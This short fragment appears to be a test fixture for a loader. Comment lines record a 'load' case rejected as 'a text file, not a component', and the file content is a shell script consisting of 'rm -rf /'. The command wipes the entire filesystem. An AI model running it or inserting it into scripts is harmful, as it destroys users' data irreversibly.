;; in: load
;; says: is a text file, not a component
;; form: file
#!/bin/sh
rm -rf /
